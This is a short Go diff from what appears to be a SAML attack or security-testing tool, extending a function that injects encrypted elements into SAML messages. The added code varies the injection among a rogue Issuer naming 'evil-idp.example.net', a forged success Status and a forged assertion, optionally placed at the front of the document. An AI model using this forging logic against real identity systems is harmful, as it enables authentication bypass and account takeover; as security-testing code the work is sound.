@@ -739,11 +739,28 @@ func (c *AttackCtx) encryptOp(root *etree.Element, op Op) *etree.Element {
 		parent, idx = target.Parent(), target.Index()
 		parent.RemoveChild(target)
 	} else {
-		el := mk("samlp", "Extensions")
-		declNS(el, "samlp", NSProtocol)
-		el.AddChild(c.forgedAssertion("", op.S))
+		var el *etree.Element
+		switch op.C % 4 {
+		case 1: // another Issuer
+			el = mk("saml", "Issuer")
+			declNS(el, "saml", NSAssertion)
+			el.SetText("https://evil-idp.example.net")
+		case 2: // another Status
+			el = mk("samlp", "Status")
+			declNS(el, "samlp", NSProtocol)
+			sc := mk("samlp", "StatusCode")
+			sc.CreateAttr("Value", StatusSuccess)
+			el.AddChild(sc)
+		default:
+			el = mk("samlp", "Extensions")
+			declNS(el, "samlp", NSProtocol)
+			el.AddChild(c.forgedAssertion("", op.S))
+		}
 		plain = Serialize(el, Layout{})
 		parent, idx = root, len(root.Child)
+		if op.A%2 == 1 {
+			idx = 0 // in front of everything
+		}
 		c.NonAsrtE = true
 	}
 	ea, err := enc.EncryptElement(plain, NSStyle{P: "samlp", A: "ea"})
